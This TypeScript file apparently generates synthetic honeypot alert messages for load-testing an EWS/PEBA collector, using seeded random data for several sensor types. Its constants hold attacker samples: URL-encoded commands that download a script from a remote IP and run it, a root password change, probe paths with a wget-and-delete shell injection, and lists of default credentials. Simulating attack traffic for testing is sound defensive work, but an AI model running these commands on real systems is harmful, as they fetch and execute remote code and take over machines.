/**
 * Synthetic EWS messages shaped like ewsposter's: one sensor per message, its cowrie, dionaea,
 * honeytrap and glastopf alerts mixed. Deterministic (seeded) so runs are comparable.
 *
 * Every alert is unique: alert number i (over the whole run) gets the UTC CreateTime
 * base + i seconds (BASE_SECONDS unless given), and createTime is part of the stored id, so no two alerts collide.
 */

export const COMMUNITY_USER = 'community-01-user';
export const COMMUNITY_TOKEN = 'foth{a5maiCee8fineu7';

/** 2026-01-01 00:00:00 UTC, in seconds: the default CreateTime of alert number 0. */
export const BASE_SECONDS = Date.UTC(2026, 0, 1) / 1000;

export interface GeneratorOptions {
  readonly seed?: number;
  /** Distinct sensors; each has one analyzer id per honeypot, a hostname and addresses. */
  readonly sensors?: number;
  /** Distinct attacker addresses; larger than the server's GeoIP LRU (100k) on purpose. */
  readonly sourcePool?: number;
  /** The few heavy scanners that send a large share of all traffic. */
  readonly hotSources?: number;
  /** UTC CreateTime of alert number 0, epoch seconds (default BASE_SECONDS). */
  readonly baseSeconds?: number;
}

/** Small, fast PRNG (mulberry32): the generator must cost little next to the server. */
function prng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

/** Unicast space only: private, loopback, CGNAT, link-local, documentation, multicast excluded. */
function isPublicV4(n: number): boolean {
  const a = n >>> 24;
  const b = (n >>> 16) & 0xff;
  const c = (n >>> 8) & 0xff;
  if (a === 0 || a === 10 || a === 127 || a >= 224) return false;
  if (a === 100 && b >= 64 && b < 128) return false;
  if (a === 169 && b === 254) return false;
  if (a === 172 && b >= 16 && b < 32) return false;
  if (a === 192 && (b === 168 || (b === 0 && (c === 0 || c === 2)))) return false;
  if (a === 198 && (b === 18 || b === 19 || (b === 51 && c === 100))) return false;
  if (a === 203 && b === 0 && c === 113) return false;
  return true;
}

function v4Text(n: number): string {
  return `${n >>> 24}.${(n >>> 16) & 0xff}.${(n >>> 8) & 0xff}.${n & 0xff}`;
}

/** Real hosting prefixes, so IPv6 sources hit the IPv6 GeoIP tree with records. */
const V6_PREFIXES = ['2a01:4f8:', '2001:41d0:', '2604:a880:', '2400:6180:', '2a03:b0c0:', '2001:19f0:'];

const pad2 = Array.from({ length: 60 }, (_, i) => String(i).padStart(2, '0'));

const USERNAMES = ['root', 'admin', 'user', 'ubuntu', 'test', 'oracle', 'pi', 'support', 'guest', 'ftpuser',
  'postgres', 'git', 'deploy', 'hadoop', 'nagios', 'ubnt', 'telnet', 'default', 'administrator', 'mysql'];
const PASSWORDS = ['123456', 'admin', 'root', 'password', '1234', '12345678', 'qwerty', 'klv123', '5up', 'raspberry',
  'changeme', 'P@ssw0rd', 'abc123', 'toor', '111111', 'default', 'ubnt', 'vizxv', 'xc3511', 'Zte521', 'hi3518',
  'admin123', 'letmein', 'welcome1', 'passw0rd', 'alpine', 'support', '1q2w3e4r', 'dreambox', 'system'];
/** URL-encoded like cowrie's `input` (ewsposter sends it that way). */
const INPUTS = [
  '',
  '%0Aenable%0Ashell%0Ash%0Acat%20/proc/mounts%3B%20/bin/busybox%20VDXZY',
  'uname%20-a',
  'cat%20/proc/cpuinfo%20%7C%20grep%20name%20%7C%20wc%20-l',
  '%0Awget%20-qO%20-%20http%3A//52.69.41.108/x/1sh%20%7C%20sh%20%3E%20/dev/null%202%3E%261%20%26',
  'cd%20/tmp%20%7C%7C%20cd%20/var/run%3B%20wget%20http%3A//45.95.146.12/bins.sh%3B%20chmod%20777%20bins.sh%3B%20sh%20bins.sh',
  'echo%20%22root%3AXk2vPq9%22%7Cchpasswd%7Cbash',
  'ls%20-la%20/var/run/gcc.pid',
  'free%20-m%20%7C%20grep%20Mem%20%7C%20awk%20%27%7Bprint%20%242%20%2C%243%7D%27',
  'crontab%20-l',
];
const SSH_VERSIONS = ['SSH-2.0-Go', 'SSH-2.0-libssh_0.9.6', 'SSH-2.0-OpenSSH_7.4', 'SSH-2.0-PUTTY', 'SSH-2.0-paramiko_2.7.2', ''];
const DIONAEA_PORTS = ['445', '3306', '1433', '21', '42', '135', '1723', '5060', '11211', '27017', '69', '1883'];
const HONEYTRAP_PORTS = ['81', '2323', '5555', '5900', '5905', '7547', '8000', '8080', '8088', '8443', '9000', '9200', '37215', '52869', '60001'];
const WEB_PATHS = ['/', '/server-status?auto', '/.env', '/wp-login.php', '/phpmyadmin/index.php', '/cgi-bin/luci',
  '/boaform/admin/formLogin', '/HNAP1/', '/shell?cd+/tmp;rm+-rf+*;wget+http://1.2.3.4/x', '/solr/admin/info/system',
  '/actuator/health', '/.git/config', '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', '/console/',
  '/api/v1/pods', '/owa/auth/logon.aspx', '/robots.txt', '/favicon.ico', '/setup.cgi?next_file=netgear.cfg',
  '/index.php?s=/Index/\\think\\app/invokefunction', '/manager/html', '/jenkins/login', '/xmlrpc.php', '/admin/config.php'];
const USER_AGENTS = ['Mozilla/5.0 zgrab/0.x', 'curl/7.68.0', 'python-requests/2.31.0', 'Go-http-client/1.1',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36',
  'masscan/1.3', 'Hello, World', 'Mozilla/5.0 (compatible; CensysInspect/1.1)'];
/** Non-HTTP payloads honeytrap records: RDP cookie, TLS ClientHello start, SMB negotiate, junk. */
const BINARY_PAYLOADS = [
  Buffer.from('0300002b26e00000000000436f6f6b69653a206d737473686173683d41646d696e697374720d0a0100080003000000', 'hex'),
  Buffer.from('16030100f4010000f00303' + 'a1'.repeat(32) + '00002cc02bc02fc02cc030', 'hex'),
  Buffer.from('00000054ff534d4272000000001843c80000000000000000000000000000fffe00000000003100024c414e4d414e312e30', 'hex'),
  Buffer.from('\r\n\r\n', 'latin1'),
  Buffer.from('GET / HTTP/1.0\r\n\r\n', 'latin1'),
];

function xmlEscape(text: string): string {
  return text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');
}

/** Wraps base64 at 76 columns as the fixtures (and Python's base64.encodebytes) do. */
function wrap76(base64: string): string {
  let out = '';
  for (let i = 0; i < base64.length; i += 76) out += (i ? '\n' : '') + base64.slice(i, i + 76);
  return out;
}

interface Sensor {
  readonly tag: string;
  readonly hostname: string;
  readonly externalIP: string;
  readonly internalIP: string;
  /** Target address the honeypots report: the private one on most T-Pots, else public. */
  readonly target: string;
  /** Honeytrap/glastopf payloads carry this sensor's Host header, so md5s differ per sensor. */
  readonly payloadCache: Map<number, string>;
}

export class MessageGenerator {
  private readonly random: () => number;
  private readonly sensors: Sensor[] = [];
  private readonly sources: string[] = [];
  private readonly hot: number;
  private readonly baseSeconds: number;
  private lastSource = '';
  private lastPort = 40000;
  /** `YYYY-MM-DD ` by day number, so formatting a time is a few concatenations. */
  private readonly dayPrefix = new Map<number, string>();

  constructor(options: GeneratorOptions = {}) {
    this.random = prng(options.seed ?? 20260101);
    this.baseSeconds = options.baseSeconds ?? BASE_SECONDS;
    const r = this.random;
    const sensorCount = options.sensors ?? 250;
    for (let s = 0; s < sensorCount; s++) {
      const tag = `tpot-${(0x100000 + Math.floor(r() * 0xefffff)).toString(16)}`;
      const external = this.randomPublicV4();
      const internal = `192.168.${Math.floor(r() * 255)}.${1 + Math.floor(r() * 250)}`;
      this.sensors.push({
        tag,
        hostname: `sensor-${s.toString(36)}-${tag.slice(5)}`,
        externalIP: external,
        internalIP: internal,
        target: r() < 0.6 ? internal : external,
        payloadCache: new Map(),
      });
    }
    const poolSize = options.sourcePool ?? 300_000;
    for (let i = 0; i < poolSize; i++) {
      if (r() < 0.02) {
        const prefix = V6_PREFIXES[i % V6_PREFIXES.length]!;
        const g = () => Math.floor(r() * 0xffff).toString(16);
        this.sources.push(`${prefix}${g()}:${g()}::${g()}`);
      } else {
        this.sources.push(this.randomPublicV4());
      }
    }
    this.hot = Math.min(options.hotSources ?? 2_000, poolSize);
  }

  get sensorCount(): number {
    return this.sensors.length;
  }

  get sourcePoolSize(): number {
    return this.sources.length;
  }

  private randomPublicV4(): string {
    for (;;) {
      const n = Math.floor(this.random() * 4294967296) >>> 0;
      if (isPublicV4(n)) return v4Text(n);
    }
  }

  private pick<T>(list: readonly T[]): T {
    return list[Math.floor(this.random() * list.length)]!;
  }

  /**
   * An attacker address: half the time the previous alert's (a session sends several), else
   * 30% a heavy scanner, 70% anyone from the whole pool (so the GeoIP LRU misses often).
   */
  private source(): string {
    const r = this.random();
    if (r < 0.5 && this.lastSource !== '') return this.lastSource;
    const index = r < 0.65 ? Math.floor(this.random() * this.hot) : Math.floor(this.random() * this.sources.length);
    this.lastSource = this.sources[index]!;
    this.lastPort = 1024 + Math.floor(this.random() * 64000);
    return this.lastSource;
  }

  private sourcePort(): string {
    this.lastPort = this.lastPort >= 65535 ? 1024 : this.lastPort + 1;
    return String(this.lastPort);
  }

  private sourceXml(): string {
    const address = this.source();
    const category = address.includes(':') ? 'ipv6' : 'ipv4';
    return `<Source category="${category}" port="${this.sourcePort()}" protocol="tcp">${address}</Source>`;
  }

  /** `YYYY-MM-DD HH:MM:SS` of epoch seconds, cheaply. */
  private format(seconds: number): string {
    const day = Math.floor(seconds / 86400);
    let prefix = this.dayPrefix.get(day);
    if (prefix === undefined) {
      prefix = new Date(day * 86400_000).toISOString().slice(0, 10) + ' ';
      this.dayPrefix.set(day, prefix);
    }
    const s = seconds - day * 86400;
    return prefix + pad2[Math.floor(s / 3600)]! + ':' + pad2[Math.floor(s / 60) % 60]! + ':' + pad2[s % 60]!;
  }

  /** Local time text and tz attribute that together mean UTC `seconds`. */
  private localTime(seconds: number): [string, string] {
    const zone = this.random();
    if (zone < 0.5) return [this.format(seconds), '+0000'];
    if (zone < 0.8) return [this.format(seconds + 3600), '+0100'];
    if (zone < 0.9) return [this.format(seconds + 7200), '+0200'];
    return [this.format(seconds - 5 * 3600), '-0500'];
  }

  private httpRequest(sensor: Sensor, variant: number): string {
    const path = WEB_PATHS[variant % WEB_PATHS.length]!;
    const agent = USER_AGENTS[Math.floor(variant / WEB_PATHS.length) % USER_AGENTS.length]!;
    return `GET ${path} HTTP/1.1\r\nHost: ${sensor.externalIP}\r\nUser-Agent: ${agent}\r\nAccept: */*\r\nAccept-Encoding: identity\r\nConnection: close\r\n\r\n`;
  }

  /** Base64 of one of ~200 payload variants as this sensor saw it, wrapped like ewsposter. */
  private payload(sensor: Sensor, variant: number): string {
    let cached = sensor.payloadCache.get(variant);
    if (cached === undefined) {
      const bytes = variant < BINARY_PAYLOADS.length
        ? BINARY_PAYLOADS[variant]!
        : Buffer.from(this.httpRequest(sensor, variant), 'latin1');
      cached = wrap76(bytes.toString('base64'));
      sensor.payloadCache.set(variant, cached);
    }
    return cached;
  }

  private common(sensor: Sensor): string {
    return `
    <AdditionalData meaning="externalIP" type="string">${sensor.externalIP}</AdditionalData>
    <AdditionalData meaning="internalIP" type="string">${sensor.internalIP}</AdditionalData>
    <AdditionalData meaning="hostname" type="string">${sensor.hostname}</AdditionalData>`;
  }

  private cowrie(sensor: Sensor, utc: number): string {
    const [local, tz] = this.localTime(utc);
    const telnet = this.random() < 0.3;
    const start = local.replace(' ', '%20').replace(/:/g, '%3A');
    const login = this.random() < 0.2 ? 'Success' : 'Fail';
    const input = login === 'Success' ? this.pick(INPUTS) : '';
    return `
  <Alert>
    <Analyzer id="cowrie-${sensor.tag}"/>
    <CreateTime tz="${tz}">${local}</CreateTime>
    ${this.sourceXml()}
    <Target category="ipv4" port="${telnet ? '23' : '22'}" protocol="tcp">${sensor.target}</Target>
    <Request type="description">${telnet ? 'Telnet' : 'SSH'} Honeypot Cowrie</Request>
    <AdditionalData meaning="username" type="string">${xmlEscape(this.pick(USERNAMES))}</AdditionalData>
    <AdditionalData meaning="sessionid" type="string">${(utc & 0xffffff).toString(16).padStart(8, '0')}</AdditionalData>
    <AdditionalData meaning="version" type="string">${telnet ? '' : this.pick(SSH_VERSIONS)}</AdditionalData>
    <AdditionalData meaning="starttime" type="string">${start}</AdditionalData>${input ? `
    <AdditionalData meaning="input" type="string">${input}</AdditionalData>` : ''}
    <AdditionalData meaning="password" type="string">${xmlEscape(this.pick(PASSWORDS))}</AdditionalData>
    <AdditionalData meaning="login" type="string">${login}</AdditionalData>
    <AdditionalData meaning="endtime" type="string">${start}</AdditionalData>${this.common(sensor)}
  </Alert>`;
  }

  private dionaea(sensor: Sensor, utc: number): string {
    const [local, tz] = this.localTime(utc);
    return `
  <Alert>
    <Analyzer id="dionaea-${sensor.tag}"/>
    <CreateTime tz="${tz}">${local}</CreateTime>
    ${this.sourceXml()}
    <Target category="ipv4" port="${this.pick(DIONAEA_PORTS)}" protocol="tcp">${sensor.target}</Target>
    <Request type="description">Network Honeyport Dionaea v0.1.0</Request>
    <AdditionalData meaning="sqliteid" type="string">${utc % 1000000}</AdditionalData>${this.common(sensor)}
  </Alert>`;
  }

  private honeytrap(sensor: Sensor, utc: number): string {
    // honeytrap stamps UTC whatever tz it claims, and PEBA ignores its tz: send UTC text.
    const withPayload = this.random() < 0.6;
    const variant = Math.floor(this.random() * 200);
    return `
  <Alert>
    <Analyzer id="honeytrap-${sensor.tag}"/>
    <CreateTime tz="+0000">${this.format(utc)}</CreateTime>
    ${this.sourceXml()}
    <Target category="ipv4" port="${this.pick(HONEYTRAP_PORTS)}" protocol="tcp">${sensor.target}</Target>${withPayload ? `
    <Request type="binary">${this.payload(sensor, variant)}</Request>` : ''}
    <Request type="description">NetworkHoneypot Honeytrap v1.1</Request>${this.common(sensor)}
  </Alert>`;
  }

  private glastopf(sensor: Sensor, utc: number): string {
    const [local, tz] = this.localTime(utc);
    const variant = BINARY_PAYLOADS.length + Math.floor(this.random() * 195);
    const path = WEB_PATHS[variant % WEB_PATHS.length]!;
    return `
  <Alert>
    <Analyzer id="glastopf-${sensor.tag}"/>
    <CreateTime tz="${tz}">${local}</CreateTime>
    ${this.sourceXml()}
    <Target category="ipv4" port="80" protocol="tcp">${sensor.target}</Target>
    <Request type="url">${xmlEscape(encodeURI(path).replace(/\?/g, '%3F'))}</Request>
    <Request type="raw">${this.payload(sensor, variant)}</Request>
    <Request type="description">WebHoneypot : Glastopf v3.1</Request>
    <AdditionalData meaning="sqliteid" type="integer">${utc % 1000000}</AdditionalData>
    <AdditionalData meaning="host" type="string">${sensor.externalIP}</AdditionalData>${this.common(sensor)}
  </Alert>`;
  }

  /**
   * Message number `index` with `count` alerts, alert numbers index*count .. +count-1.
   * Mix: 40% cowrie, 20% dionaea, 25% honeytrap, 15% glastopf.
   */
  message(index: number, count: number): Buffer {
    const sensor = this.sensors[Math.floor(this.random() * this.sensors.length)]!;
    const first = index * count;
    let body = `<EWS-SimpleMessage version="3.0">
  <Authentication>
    <username>${COMMUNITY_USER}</username>
    <token>${COMMUNITY_TOKEN}</token>
  </Authentication>`;
    for (let k = 0; k < count; k++) {
      const utc = this.baseSeconds + first + k;
      const kind = this.random();
      body += kind < 0.4 ? this.cowrie(sensor, utc)
        : kind < 0.6 ? this.dionaea(sensor, utc)
        : kind < 0.85 ? this.honeytrap(sensor, utc)
        : this.glastopf(sensor, utc);
    }
    body += '\n</EWS-SimpleMessage>\n';
    // Everything above is ASCII, so latin1 is an exact and cheaper encoding than utf8.
    return Buffer.from(body, 'latin1');
  }
}
